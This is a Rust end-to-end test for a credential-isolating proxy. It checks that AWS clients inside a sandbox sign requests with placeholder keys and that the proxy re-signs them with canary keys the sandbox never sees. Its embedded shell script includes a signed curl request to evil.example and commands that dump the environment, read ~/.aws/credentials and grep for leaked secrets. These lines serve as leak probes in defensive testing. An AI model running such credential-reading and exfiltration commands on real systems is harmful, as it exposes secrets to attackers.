//! AWS's own client, at a server that checks signatures by AWS's own code: the client signs by a placeholder, the proxy anew by
//! the key, which is nowhere inside.

use crate::host;
use crate::lookout::{Control, Lookout};
use crate::server::certified;
use crate::stage::{Actor, Stage, text};
use base64::prelude::{BASE64_STANDARD, Engine as _};
use bytes::Bytes;
use http::header::HOST;
use http::{Request, Response};
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper_util::rt::{TokioExecutor, TokioIo};
use serde_json::json;
use std::convert::Infallible;
use std::io::{BufRead, BufReader, Write};
use std::net::SocketAddr;
use std::path::Path;
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
use std::sync::{Arc, Mutex};

const KEY: [&str; 3] =
    ["ASIACANARYCANARY0001", "canary5vT0kY3n/secret+of/key0123456789ab", "canary5vT0kY3n-token-of-the-session=="];
const HOSTS: [&str; 4] = [
    "sts.us-east-1.amazonaws.com",
    "dynamodb.us-east-1.amazonaws.com",
    "bucket.s3.us-east-1.amazonaws.com",
    "bucket.s3.amazonaws.com",
];
/// Longer than what is read whole.
const SCRIPT: &str = r#"
head -c 600000 /dev/zero | tr '\0' x > large
echo stored > 'a b+c.txt'
aws sts get-caller-identity --output text
aws dynamodb list-tables --output text
aws s3 cp --only-show-errors large s3://bucket/large && echo "large is stored"
aws s3 cp --only-show-errors 'a b+c.txt' 's3://bucket/dir/a b+c.txt' && echo "small is stored"
aws s3 cp --only-show-errors 's3://bucket/dir/a b+c.txt' -
AWS_SECRET_ACCESS_KEY=another aws sts get-caller-identity 2>&1 | grep -o 'not by the placeholder' || true
curl -sS "$(aws s3 presign s3://bucket/large)" | grep -o 'stands in the URL' || true
curl -sS --aws-sigv4 aws:amz:us-east-1:s3 -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" -T 'a b+c.txt' \
    -H 'x-amz-content-sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD' https://bucket.s3.us-east-1.amazonaws.com/x \
    | grep -o 'signed piece by piece' || true
curl -sS --aws-sigv4 aws:amz:us-east-1:sts -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://evil.example/ \
    | grep -o 'belongs in' || true
env; cat ~/.aws/credentials; grep -rac can[a]ry $HOME /tmp 2>/dev/null | grep -v :0
true
"#;
const SAID: [&str; 9] = [
    "arn:aws:iam::000000000001:user/ann",
    "TABLENAMES\tthe-table",
    "large is stored",
    "small is stored",
    "what is stored",
    "not by the placeholder",
    "stands in the URL",
    "signed piece by piece",
    "belongs in",
];

/// What AWS's code says of signatures.
struct Verifier {
    process: Child,
    ways: (ChildStdin, BufReader<ChildStdout>),
}

impl Verifier {
    fn start(python: &Path) -> Self {
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/end_to_end/verifier.py");
        let mut command = Command::new(python);
        let mut process = command.arg(script).args(KEY).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        let ways = (process.stdin.take().unwrap(), BufReader::new(process.stdout.take().unwrap()));
        Self { process, ways }
    }

    fn says(&mut self, head: &http::request::Parts, body: &[u8]) -> bool {
        let named = head.headers.iter().map(|(name, value)| (name.as_str(), value.to_str().unwrap()));
        let target = head.uri.path_and_query().map_or("/", |target| target.as_str());
        let asked = json!({"method": head.method.as_str(), "target": target, "headers": named.collect::<Vec<_>>(),
            "body": BASE64_STANDARD.encode(body)});
        writeln!(self.ways.0, "{asked}").unwrap();
        let mut line = String::new();
        self.ways.1.read_line(&mut line).unwrap();
        line.trim() == "true"
    }
}

impl Drop for Verifier {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

struct Aws {
    address: SocketAddr,
    ca_pem: String,
    /// Every host that was asked, and whether the signature was good.
    seen: Arc<Mutex<Vec<(String, bool)>>>,
    _runtime: tokio::runtime::Runtime,
}

impl Aws {
    fn start(python: &Path, lookout: Arc<Lookout>) -> Self {
        let (ca_pem, config) = certified(&HOSTS);
        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
        let listener = runtime.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).unwrap();
        let address = listener.local_addr().unwrap();
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
        let (seen, verifier) = (Arc::<Mutex<Vec<_>>>::default(), Arc::new(Mutex::new(Verifier::start(python))));
        let told = seen.clone();
        runtime.spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let (acceptor, seen, verifier) = (acceptor.clone(), told.clone(), verifier.clone());
                let lookout = lookout.clone();
                tokio::spawn(async move {
                    let Ok(stream) = acceptor.accept(stream).await else { return };
                    let service = service_fn(move |request: Request<Incoming>| {
                        let (seen, verifier, lookout) = (seen.clone(), verifier.clone(), lookout.clone());
                        async move {
                            let (head, body) = request.into_parts();
                            let body = body.collect().await.unwrap().to_bytes();
                            let host = head.headers[HOST].to_str().unwrap().to_owned();
                            let good = verifier.lock().unwrap().says(&head, &body);
                            seen.lock().unwrap().push((host.clone(), good));
                            tokio::task::block_in_place(|| lookout.look());
                            Ok::<_, Infallible>(if good { answer(&host, &head) } else { refusal() })
                        }
                    });
                    let builder = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new());
                    let _ = builder.serve_connection(TokioIo::new(stream), service).await;
                });
            }
        });
        Self { address, ca_pem, seen, _runtime: runtime }
    }
}

fn answer(host: &str, head: &http::request::Parts) -> Response<Full<Bytes>> {
    let body = match host.split('.').next() {
        Some("sts") => {
            "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetCallerIdentityResult>\
            <Arn>arn:aws:iam::000000000001:user/ann</Arn><UserId>U</UserId><Account>000000000001</Account>\
            </GetCallerIdentityResult></GetCallerIdentityResponse>"
        }
        Some("dynamodb") => r#"{"TableNames": ["the-table"]}"#,
        _ if head.method == "GET" => "what is stored\n",
        _ => "",
    };
    let builder =
        Response::builder().header("etag", "\"0123\"").header("last-modified", "Fri, 27 Nov 2026 00:00:00 GMT");
    // The length of what is stored, where only that is asked for.
    let builder = if head.method == "HEAD" { builder.header("content-length", "15") } else { builder };
    builder.body(Full::new(Bytes::from(body))).unwrap()
}

fn refusal() -> Response<Full<Bytes>> {
    let body = "<Error><Code>SignatureDoesNotMatch</Code><Message>no</Message></Error>";
    Response::builder().status(403).body(Full::new(Bytes::from(body))).unwrap()
}

#[test]
fn the_clients_of_aws_sign_by_a_placeholder_and_the_proxy_by_the_key() {
    for actor in Actor::all() {
        let tools = ["agents/bin/aws", "agents/bin/python3"].map(|path| host::tool(*actor, path));
        if host::has_sandboxes()
            && let [Some(aws), Some(python)] = tools
        {
            signs(*actor, &aws, &python);
        }
    }
}

fn signs(actor: Actor, aws: &Path, python: &Path) {
    let stage = Stage::new(actor);
    let lookout = Lookout::new(&stage, &[KEY[0], "canary5vT0kY3n"], "AKIAZX");
    let server = Aws::start(python, lookout.clone());
    stage.write(&stage.path("server.pem"), &server.ca_pem);
    let ca = stage.path("server.pem").display().to_string();
    let tools = format!("{}:ro", host::tools_directory().display());
    let mut arguments = vec!["exec", "--secret", "aws", "--upstream-ca", &ca, "--mount", &tools];
    arguments.extend(["--allow", "* *.amazonaws.com/**", "--allow", "GET evil.example/**"]);
    let redirects = HOSTS.map(|host| format!("{host}:443:{}", server.address));
    redirects.iter().for_each(|to| arguments.extend(["--connect-to", to]));
    let script = format!(
        "PATH={}:$PATH AWS_DEFAULT_REGION=us-east-1; export PATH AWS_DEFAULT_REGION; {SCRIPT}",
        aws.parent().unwrap().display()
    );
    arguments.extend(["--", "sh", "-c", &script]);
    let mut command = stage.omni(&arguments);
    let output = lookout.run(&stage, command.envs(std::iter::zip(omni::policy::AWS_VARIABLES, KEY)));
    let said = format!("{}{}", text(&output.stdout), text(&output.stderr));
    assert!(output.status.success(), "{actor:?}: {said}");
    for expected in SAID {
        assert!(said.contains(expected), "{actor:?}: {expected} is not in {said}");
    }
    lookout.assert_found_nothing(Control { in_memory: true, in_files: true }, &actor);
    assert!(said.contains("AWS_ACCESS_KEY_ID=AKIAZX") && said.contains("aws_access_key_id = AKIAZX"), "{said}");
    assert!(KEY.iter().all(|part| !said.contains(part)), "{said}");
    let seen = server.seen.lock().unwrap();
    assert!(seen.len() >= 5 && seen.iter().all(|(_, good)| *good), "{seen:?}");
    for service in ["sts.", "dynamodb.", "bucket.s3."] {
        assert!(seen.iter().any(|(asked, _)| asked.starts_with(service)), "{service}: {seen:?}");
    }
    let recorded = Command::new("grep").args(["-rlaF", "-e", KEY[1], "-e", KEY[2]]).arg(stage.path("home")).output();
    assert_eq!(text(&recorded.unwrap().stdout), "");
}
